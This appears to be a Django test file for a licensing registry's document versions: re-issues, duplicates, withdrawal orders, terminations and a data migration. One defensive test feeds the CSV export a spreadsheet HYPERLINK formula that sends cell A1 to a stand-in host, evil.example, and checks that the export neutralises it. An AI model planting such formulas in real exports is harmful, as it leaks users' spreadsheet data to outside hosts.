"""Registry versions (issue 11, points 3 and 4): documents come from what was decided, never from live rows.

A holder with three records re-issues one for a new name and the other two — their documents, layouts and
/verify/ pages — stay byte-for-byte the same; an original's QR page says 'superseded' after a re-issue (and so
does an older duplicate's); a duplicate's text is its source version's apart from the mark, number and date; a
withdrawal order reduces or terminates the allocation it names, both records linking each other; a terminated
licence shows since when and why."""
import re
from urllib.parse import urlsplit

from django.test import Client
from django.utils import timezone

from applications.models import ResultDocument
from applications.tests.journeys import FORMS, decide, office_until_decision, portal_until_registered, sign_result
from documents.produce import layout_of
from documents.tests import helpers as h
from registry import backing
from registry.models import Holder, Record, RecordDocument, RecordEvent
from registry.tests.helpers import act, licence
from registry.tests.test_public import qr_url, verdict

CSRF = re.compile(rb'name="csrfmiddlewaretoken" value="[^"]+"')
CSRF_HEADER = re.compile(rb'"X-CSRFToken": "[^"]+"')


def _page(client, path) -> bytes:
    response = client.get(path)
    assert response.status_code == 200, (path, response.status_code)
    page = CSRF.sub(b'name="csrfmiddlewaretoken" value=""', response.content)  # a fresh mask on every page
    return CSRF_HEADER.sub(b'"X-CSRFToken": ""', page)  # and in the htmx headers of the page's body


def _layout(number) -> list:
    _ctx, layout = layout_of(ResultDocument.objects.get(number=number), signer_name="officer")
    return [layout.title, layout.subtitle, layout.mark,
            [(s.title, [(f.kk, f.ru, f.values()) for f in s.fields]) for s in layout.sections]]


def _state(world, app_id, number) -> dict:
    """Everything public or printed about one record and its document."""
    ru, kk = Client(HTTP_ACCEPT_LANGUAGE="ru"), Client(HTTP_ACCEPT_LANGUAGE="kk")
    row = ResultDocument.objects.get(number=number)
    return {
        "pdf": h.download(world.api["person"], app_id, number), "sha": row.pdf_sha256, "layout": _layout(number),
        "verify_ru": _page(ru, f"/verify/{number}/"), "verify_kk": _page(kk, f"/verify/{number}/"),
        "json": ru.get(f"/verify/{number}.json").content, "api": ru.get(f"/api/v1/registry/public/{number}").content,
        "record_page": _page(ru, f"/registry/{number}/"),
        "search": [r for r in ru.get("/registry/export.csv").content.decode("utf-8-sig").splitlines()
                   if r.startswith(number + ",")],
    }


def test_a_reissue_for_a_new_name_changes_nothing_of_the_holders_other_records(world):
    lic_app, lic = licence(world, who="person")
    order_app = h.s2_order(world, "ru")
    permit_app = h.s3_permit(world, "ru")
    order, permit = h.document_of(order_app, "order")["number"], h.document_of(permit_app, "permit")["number"]
    holder = Holder.objects.get(iin=world.person.iin)
    assert Record.objects.filter(holder=holder).count() == 3
    old_name = Record.objects.get(number=lic).current.holder_name
    before = {order: _state(world, order_app["id"], order), permit: _state(world, permit_app["id"], permit)}

    record = act(world.api["committee_officer"], lic, "reissue", reason="смена фамилии",
                 name="Жаңа Атау Жаңаұлы", address="Астана, ул. Жаңа, 7").json()
    new = record["documents"][-1]["number"]
    assert record["holder_name"] == "Жаңа Атау Жаңаұлы" and record["current_document"] == new

    for number, app in ((order, order_app), (permit, permit_app)):
        after = _state(world, app["id"], number)
        for key, value in before[number].items():
            assert after[key] == value, (number, key)
        assert old_name.encode() in after["verify_ru"] and "Жаңа Атау".encode() not in after["verify_ru"]
    holder.refresh_from_db()
    assert holder.name != "Жаңа Атау Жаңаұлы"  # the identity is never renamed …
    # … the new name is the new version's, the original keeps the old one: in its page, its layout, its PDF.
    public = Client(HTTP_ACCEPT_LANGUAGE="ru")
    assert public.get(f"/verify/{new}.json").json()["document"]["holder_name"] == "Жаңа Атау Жаңаұлы"
    assert public.get(f"/verify/{lic}.json").json()["document"]["holder_name"] == old_name
    assert "Жаңа Атау Жаңаұлы" in h.text_of(h.download(world.api["person"], lic_app["id"], new))
    assert "Жаңа Атау" not in str(_layout(lic))


def test_after_a_reissue_the_originals_qr_page_says_superseded_and_so_does_an_older_duplicate(world, tmp_path,
                                                                                               settings):
    settings.ELICENSE_PUBLIC_URL = "https://e-licensing.example.kz"
    app, number = licence(world)
    officer = world.api["committee_officer"]
    path = urlsplit(qr_url(h.download(world.api["company_head"], app["id"], number), tmp_path)).path
    assert path == f"/verify/{number}/"
    public = Client(HTTP_ACCEPT_LANGUAGE="ru")
    assert verdict(public.get(path).content.decode()) == "ДЕЙСТВИТЕЛЕН"
    duplicate = act(officer, number, "duplicate", reason="утерян").json()["documents"][-1]["number"]
    assert public.get(f"/verify/{duplicate}.json").json()["document_current"] is True
    reissue = act(officer, number, "reissue", reason="смена наименования", name="ТОО «Новое»").json()
    new = reissue["documents"][-1]["number"]
    today = timezone.localdate().isoformat()
    shown = timezone.localdate().strftime("%d.%m.%Y")  # pages show dd.mm.yyyy (the JSON keeps ISO dates)

    page = public.get(path).content.decode()
    assert verdict(page) == "НЕ АКТУАЛЬНАЯ ВЕРСИЯ"
    assert f"заменён документом {new} от {shown}" in page and f'href="/verify/{new}/"' in page
    check = public.get(f"/verify/{number}.json").json()
    assert (check["valid"], check["document_current"], check["superseded_by"], check["superseded_on"]) == (
        False, False, new, today)
    assert check["document"]["holder_name"] == world.company_head.organisation_name
    assert check["record"]["holder_name"] == "ТОО «Новое»" and check["record"]["current_document"] == new
    old_duplicate = public.get(f"/verify/{duplicate}.json").json()
    assert (old_duplicate["valid"], old_duplicate["superseded_by"]) == (False, new)
    current = public.get(f"/verify/{new}.json").json()
    assert current["valid"] is True and current["superseded_by"] is None
    # The record's own page shows the current version.
    record_page = public.get(f"/registry/{number}/").content.decode()
    assert "ТОО «Новое»" in record_page and f'href="/verify/{new}/"' in record_page


def _normalised(text: str, numbers, dates) -> str:
    for word in [*numbers, *dates, "ТЕЛНҰСҚА", "ДУБЛИКАТ", "Құжаттың нөмірі", "Номер документа"]:
        text = text.replace(word, "")
    text = re.sub(r"\d{4}-\d{2}-\d{2} \d{2}:\d{2} UTC", "", text)
    return h.squeeze(text)


def test_a_duplicate_reproduces_its_source_version_apart_from_mark_number_and_date(world):
    issue, dup = dict(FORMS[("S1", "issue")]), dict(FORMS[("S1", "duplicate")])
    try:
        FORMS[("S1", "issue")]["territory"] = "Алматы"
        app, number = licence(world)
        FORMS[("S1", "duplicate")]["licence_number"] = number
        dup_app = decide(world.api["committee_officer"],
                         portal_until_registered(world, world.api["company_head"], "S1", "duplicate"))
    finally:
        FORMS[("S1", "issue")], FORMS[("S1", "duplicate")] = issue, dup
    copy = h.document_of(dup_app, "licence")["number"]
    entry = RecordDocument.objects.get(document__number=copy)
    assert entry.role == "duplicate" and entry.source.document.number == number
    source_pdf = h.text_of(h.download(world.api["company_head"], app["id"], number))
    copy_pdf = h.text_of(h.download(world.api["company_head"], dup_app["id"], copy))
    assert "ДУБЛИКАТ" in copy_pdf and "ДУБЛИКАТ" not in source_pdf
    assert "Алматы" in copy_pdf and "Республика Казахстан" not in copy_pdf  # the territory decided, not widened
    dates = {ResultDocument.objects.get(number=n).issued_at for n in (number, copy)}
    dates = {timezone.localtime(d).strftime("%d.%m.%Y") for d in dates}
    assert _normalised(copy_pdf, [number, copy], dates) == _normalised(source_pdf, [number, copy], dates)
    # The layouts too: the same fields with the same values but the mark, the document's number and date.
    source, duplicate = _layout(number), _layout(copy)
    assert duplicate[2] == ("ТЕЛНҰСҚА", "ДУБЛИКАТ") and source[2] is None
    keep = {"Номер документа", "Дата выдачи"}
    strip = [[(t, [f for f in fields if f[1] not in keep]) for t, fields in s] for s in (source[3], duplicate[3])]
    assert strip[0] == strip[1]
    assert Client().get(f"/verify/{copy}.json").json()["document"]["duplicate_of"] == number


def _withdraw(world, allocation, start, end, expect=200):
    backup = dict(FORMS[("S2", "withdraw")])
    try:
        FORMS[("S2", "withdraw")].update(order_number=allocation, range_start=start, range_end=end)
        app = office_until_decision(world, portal_until_registered(world, world.api["person"], "S2", "withdraw"))
    finally:
        FORMS[("S2", "withdraw")] = backup
    app = decide(world.api["executor"], app, "approve")
    return sign_result(world.api["head"], app, expect=expect)


def test_a_withdrawal_order_reduces_then_terminates_the_allocation_and_both_link_each_other(world):
    allocation = h.document_of(h.s2_order(world, "ru"), "order")["number"]  # 7172500000–7172509999
    refused = _withdraw(world, allocation, "7172600000", "7172600009", expect=409)
    assert refused["code"] == "range_not_allocated"
    assert Record.objects.get(number=allocation).version == 1

    first = h.document_of(_withdraw(world, allocation, "7172500000", "7172500999"), "order")["number"]
    record = Record.objects.get(number=allocation)
    assert record.status == "valid" and (record.scope["range_start"], record.scope["range_end"]) == (
        "7172501000", "7172509999")
    assert (record.current.role, record.current.by_document.number) == ("reduced", first)
    event = RecordEvent.objects.filter(record=record).last()
    assert (event.kind, event.data["by_record"], event.document.number) == ("range_reduced", first, first)
    withdrawal = Record.objects.get(number=first)
    assert withdrawal.events.get().data["withdraws"] == allocation
    public = Client(HTTP_ACCEPT_LANGUAGE="ru")
    assert public.get(f"/verify/{first}.json").json()["record"]["links"] == [
        {"relation": "withdraws", "number": allocation}]
    assert f"изъятие географические номера 7172500000–7172500999 из приказа {allocation}" in public.get(
        f"/registry/{first}/").content.decode()
    page = public.get(f"/registry/{allocation}/").content.decode()
    assert "географические номера 7172501000–7172509999" in page and f'href="/registry/{first}/"' in page
    original = public.get(f"/verify/{allocation}.json").json()  # the allocating order printed the whole range
    assert (original["document_current"], original["superseded_by"]) == (False, first)
    assert original["document"]["scope"]["range_start"] == "7172500000"

    # A withdrawal from the middle keeps two pieces; withdrawing them both terminates the allocation.
    middle = h.document_of(_withdraw(world, allocation, "7172505000", "7172505999"), "order")["number"]
    record.refresh_from_db()
    assert record.scope["ranges"] == [["7172501000", "7172504999"], ["7172506000", "7172509999"]]
    _withdraw(world, allocation, "7172501000", "7172504999")
    last = h.document_of(_withdraw(world, allocation, "7172506000", "7172509999"), "order")["number"]
    record.refresh_from_db()
    assert record.status == "terminated" and record.events.last().kind == "withdrawn"
    check = public.get(f"/verify/{allocation}.json").json()["record"]
    assert (check["status"], check["status_by"], check["terminated_on"]) == (
        "terminated", last, timezone.localdate().isoformat())
    assert [link["number"] for link in check["links"] if link["relation"] == "withdrawn_by"][:2] == [first, middle]
    page = public.get(f"/verify/{allocation}/").content.decode()
    assert verdict(page) == "ПРЕКРАЩЁН" and f"изъят приказом {last}" in page
    assert all(backing.status_backed(r) for r in Record.objects.filter(holder=record.holder))
    _withdraw(world, allocation, "7172506000", "7172506001", expect=409)  # nothing is left to withdraw


def test_a_terminated_licence_shows_since_when_and_why(world):
    _app, number = licence(world)
    act(world.api["committee_officer"], number, "terminate", reason="заявление лицензиата")
    today = timezone.localdate().isoformat()
    shown = timezone.localdate().strftime("%d.%m.%Y")  # as the pages write it
    public = Client(HTTP_ACCEPT_LANGUAGE="ru")
    check = public.get(f"/verify/{number}.json").json()["record"]
    assert (check["status"], check["terminated_on"], check["status_since"], check["status_reason"]) == (
        "terminated", today, today, "заявление лицензиата")
    for path in (f"/verify/{number}/", f"/registry/{number}/"):
        page = public.get(path).content.decode()
        assert f"прекращена {shown}" in page and f"с {shown}: заявление лицензиата" in page, path
        assert "no end date" not in page
    (row,) = [r for r in public.get("/registry/export.csv").content.decode("utf-8-sig").splitlines()
              if r.startswith(number + ",")]
    assert row.split(",")[8] == today


def test_the_export_neutralises_a_formula_in_a_versions_holder_name(world):
    """The CSV injection check of applications/tests/test_uploads.py, on the name the export now prints: the
    current version's (a re-issue's), not the holder row's."""
    import csv
    import io

    _app, number = licence(world)
    evil = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
    act(world.api["committee_officer"], number, "reissue", reason="смена наименования", name=evil)
    rows = list(csv.reader(io.StringIO(Client().get("/registry/export.csv").content.decode("utf-8-sig"))))
    (row,) = [r for r in rows if r and r[0] == number]
    assert row[4] == "'" + evil
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_the_data_migration_gives_existing_versions_their_snapshot_and_records_their_current_version(world):
    import importlib

    from django.apps import apps

    fill = importlib.import_module("registry.migrations.0002_record_versions").fill_versions
    _app, number = licence(world)
    officer = world.api["committee_officer"]
    act(officer, number, "reissue", reason="смена наименования", name="ТОО «После»")
    act(officer, number, "duplicate", reason="утерян")
    record = Record.objects.get(number=number)
    expected = [(v.role, v.holder_name, v.content.get("territory"), v.source_id is not None)
                for v in record.documents.order_by("version")]
    Record.objects.filter(pk=record.pk).update(current=None)  # as rows were before versions had them
    RecordDocument.objects.filter(record=record).update(holder_name="", content={}, scope={}, source=None,
                                                        issued_at=None)
    fill(apps, None)
    record.refresh_from_db()
    assert record.current.role == "reissue" and record.current.holder_name == "ТОО «После»"
    assert [(v.role, v.holder_name, v.content.get("territory"), v.source_id is not None)
            for v in record.documents.order_by("version")] == expected
